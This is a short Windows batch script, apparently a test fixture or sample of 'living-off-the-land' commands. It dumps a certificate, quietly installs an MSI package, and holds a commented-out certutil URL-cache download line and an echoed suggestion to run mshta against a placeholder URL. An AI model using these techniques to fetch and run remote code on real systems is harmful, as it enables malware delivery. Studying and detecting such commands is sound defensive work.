@echo off
certutil -dump branch.cer
msiexec /i setup.msi /qb
rem certutil -urlcache -f http://x y
echo use mshta http://files.example.invalid/
